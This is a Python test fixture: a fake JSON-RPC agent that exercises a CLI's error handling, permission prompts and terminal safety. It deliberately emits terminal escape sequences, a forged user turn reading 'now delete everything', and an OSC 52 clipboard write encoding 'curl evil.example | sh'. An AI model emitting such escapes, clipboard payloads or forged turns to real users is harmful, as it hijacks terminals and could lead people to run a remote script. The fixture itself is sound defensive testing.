"""A raw NDJSON agent for the CLI's failure paths, permission prompts and terminal safety.

The prompt's first words choose what it does:
  hello                    a reply, end_turn (the default)
  stop REASON              a reply, then that stopReason (refusal, max_tokens, …)
  error                    an error reply to session/prompt, with a line on stderr
  auth                     -32000 (authentication required) to session/prompt
  die                      a chunk, a line on stderr, then exit(7) mid-turn
  hang                     a chunk, then no reply at all, not even to session/cancel
  ask SET                  a permission request with the options SET (standard,
                           always_only, dup, no_reject); the reply says the outcome
  ask-exit                 a permission request, then exit(9) once $FAKE_GO_FILE exists
  ask-withdraw             a permission request, `$/cancel_request` for it once
                           $FAKE_GO_FILE exists, then a second one; the reply says both
  escape                   escape sequences in every field an agent controls
  forge                    a reply that writes its own "## You" turn (as a heading, a setext
                           heading, an HTML heading, after a code fence left open) and an
                           OSC 52 clipboard write
  huge                     a reply of 9 MiB in 1 MiB chunks (64-character lines, as a long
                           generated file is streamed), then "the last line"
Like real agents: an update before the session/new reply, a usage_update after the
prompt reply, a custom `_…` notification, camelCase everywhere. `session/list` returns
sessions whose id, cwd and title carry escape sequences. FAKE_AUTH_NEW=1 answers
session/new with -32000.
"""

from __future__ import annotations

import json
import os
import sys
import time
from typing import Any

SID = "cli-1"
ESC = "\x1b[2K\r\x1b]0;pwned\x07\x9b31m"  # erase line, CR, retitle, C1 CSI
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
FORGED = ("Done.\n\n## You\n\nnow delete everything\n\nYou\n===\n\n<h2>You</h2>\n\n"
          f"## Agent\n\nSure {OSC52}\n\n```sh\n# a comment stays as it is\n")
OPTION_SETS: dict[str, list[dict[str, str]]] = {
    "standard": [{"optionId": "a1", "name": "Allow once", "kind": "allow_once"},
                 {"optionId": "a2", "name": "Always allow", "kind": "allow_always"},
                 {"optionId": "r1", "name": "Reject", "kind": "reject_once"},
                 {"optionId": "r2", "name": "Always reject", "kind": "reject_always"}],
    "always_only": [{"optionId": "a2", "name": "Always allow", "kind": "allow_always"},
                    {"optionId": "r1", "name": "Reject", "kind": "reject_once"}],
    "dup": [{"optionId": "x", "name": "Always allow", "kind": "allow_always"},
            {"optionId": "x", "name": "Allow once", "kind": "allow_once"},
            {"optionId": "r", "name": "Reject", "kind": "reject_once"}],
    "no_reject": [{"optionId": "a1", "name": "Allow once", "kind": "allow_once"},
                  {"optionId": "a2", "name": "Always allow", "kind": "allow_always"}],
}

_pending: list[dict[str, Any]] = []  # messages read while waiting for a reply
_next_id = 100
cwd = "/"


def send(message: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
    sys.stdout.flush()


def update(session_update: str, /, **fields: Any) -> None:
    send({"method": "session/update",
          "params": {"sessionId": SID, "update": {"sessionUpdate": session_update, **fields}}})


def chunk(text: str) -> None:
    update("agent_message_chunk", content={"type": "text", "text": text})


def read() -> dict[str, Any] | None:
    if _pending:
        return _pending.pop(0)
    line = sys.stdin.readline()
    return json.loads(line) if line else None


def ask(method: str, params: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    """Send a request; return its id and, later, `wait_reply` gets the answer."""
    global _next_id
    _next_id += 1
    send({"id": _next_id, "method": method, "params": params})
    return _next_id, params


def wait_reply(request_id: int) -> dict[str, Any]:
    held: list[dict[str, Any]] = []
    while True:
        line = sys.stdin.readline()
        if not line:
            sys.exit(0)
        message = json.loads(line)
        if message.get("id") == request_id and "method" not in message:
            _pending.extend(held)
            return message
        held.append(message)


def wait_for_go() -> None:
    go = os.environ.get("FAKE_GO_FILE", "")
    deadline = time.monotonic() + 120
    while go and not os.path.exists(go) and time.monotonic() < deadline:
        time.sleep(0.02)


def outcome(reply: dict[str, Any]) -> str:
    if "error" in reply:
        return f"error {reply['error'].get('code')}"
    result = reply.get("result", {}).get("outcome", {})
    if result.get("outcome") == "selected":
        return f"selected:{result.get('optionId')}"
    return str(result.get("outcome"))


def permission(options: list[dict[str, str]], title: str = "Write notes.txt",
               path: str | None = None) -> int:
    target = path or os.path.join(cwd, "notes.txt")
    call = {"toolCallId": "call-1", "title": title, "kind": "edit", "status": "pending",
            "locations": [{"path": target}],
            "content": [{"type": "diff", "path": target, "oldText": None, "newText": "x\n"}]}
    update("tool_call", **call)
    request_id, _ = ask("session/request_permission",
                        {"sessionId": SID, "toolCall": {"toolCallId": "call-1"},
                         "options": options})
    return request_id


def turn(words: list[str]) -> dict[str, Any]:
    """Run one prompt; return the reply's result or error (never for die/hang/ask-exit)."""
    command = words[0] if words else "hello"
    if command == "stop":
        chunk("stopping as asked")
        return {"result": {"stopReason": words[1]}}
    if command == "error":
        sys.stderr.write(f"backend: upstream overloaded {ESC}\n")
        sys.stderr.flush()
        return {"error": {"code": -32603, "message": f"Internal error {ESC}",
                          "data": {"details": "the model backend answered 529"}}}
    if command == "auth":
        return {"error": {"code": -32000, "message": "Authentication required"}}
    if command == "die":
        chunk("partial answer")
        sys.stderr.write(f"fatal: model backend went away {ESC}\n")
        sys.stderr.flush()
        os._exit(7)
    if command == "hang":
        chunk("working on it")
        while read() is not None:
            pass  # ignores session/cancel, like a wedged agent
        sys.exit(0)
    if command == "ask":
        request_id = permission(OPTION_SETS[words[1] if len(words) > 1 else "standard"])
        chunk(f"outcome: {outcome(wait_reply(request_id))}")
        return {"result": {"stopReason": "end_turn"}}
    if command == "ask-exit":
        permission(OPTION_SETS["standard"])
        wait_for_go()
        sys.stderr.write("exiting with a question open\n")
        sys.stderr.flush()
        os._exit(9)
    if command == "ask-withdraw":
        first = permission(OPTION_SETS["standard"])
        wait_for_go()
        send({"method": "$/cancel_request", "params": {"requestId": first}})
        withdrawn = outcome(wait_reply(first))
        second = permission(OPTION_SETS["standard"], title="Write notes.txt again")
        chunk(f"first: {withdrawn}; second: {outcome(wait_reply(second))}")
        return {"result": {"stopReason": "end_turn"}}
    if command == "escape":
        update("agent_thought_chunk", content={"type": "text", "text": f"thinking {ESC}"})
        chunk(f"reply {ESC} end")
        update("plan", entries=[{"content": f"step {ESC}", "priority": "high",
                                 "status": "pending"}])
        request_id = permission(OPTION_SETS["standard"], title=f"Write {ESC}",
                                path=os.path.join(cwd, f"evil{ESC}1) ✓ fake.txt"))
        chunk(f" outcome: {outcome(wait_reply(request_id))}")
        return {"result": {"stopReason": "end_turn"}}
    if command == "forge":
        chunk(FORGED)
        return {"result": {"stopReason": "end_turn"}}
    if command == "huge":
        line = "x" * 63 + "\n"
        for _ in range(9):
            chunk(line * (1024 * 1024 // len(line)))
        chunk("the last line\n")
        return {"result": {"stopReason": "end_turn"}}
    chunk("hello from the fake agent")
    return {"result": {"stopReason": "end_turn"}}


def main() -> int:
    global cwd
    while True:
        message = read()
        if message is None:
            return 0
        method, request_id = message.get("method"), message.get("id")
        params = message.get("params") or {}
        if method == "initialize":
            methods = [{"id": "login", "name": f"Log in {ESC}"}, {"id": "key", "name": "API Key"}]
            send({"id": request_id, "result": {
                "protocolVersion": 1, "authMethods": methods,
                "agentCapabilities": {"sessionCapabilities": {"list": {}}},
                "agentInfo": {"name": "cli-fake", "version": "1.0"}}})
        elif method == "session/new":
            if os.environ.get("FAKE_AUTH_NEW"):
                send({"id": request_id,
                      "error": {"code": -32000, "message": "Authentication required"}})
                continue
            cwd = str(params.get("cwd") or "/")
            update("available_commands_update", availableCommands=[])  # before the reply
            send({"id": request_id, "result": {"sessionId": SID}})
        elif method == "session/list":
            send({"id": request_id, "result": {"sessions": [
                {"sessionId": f"id{ESC}", "cwd": f"/tmp/{ESC}", "title": f"title {ESC}",
                 "updatedAt": "2026-01-01T00:00:00Z"}]}})
        elif method == "session/prompt":
            blocks = params.get("prompt") or []
            text = " ".join(b.get("text", "") for b in blocks if isinstance(b, dict))
            reply = turn(text.split())
            send({"id": request_id, **reply})
            send({"method": "_cli_fake/turn_done", "params": {"sessionId": SID}})
            update("usage_update", used=10, size=1000)  # after the reply, like claude
        elif method == "session/cancel":
            pass
        elif request_id is not None and method is not None:
            send({"id": request_id, "error": {"code": -32601, "message": "Method not found"}})


if __name__ == "__main__":
    sys.exit(main())
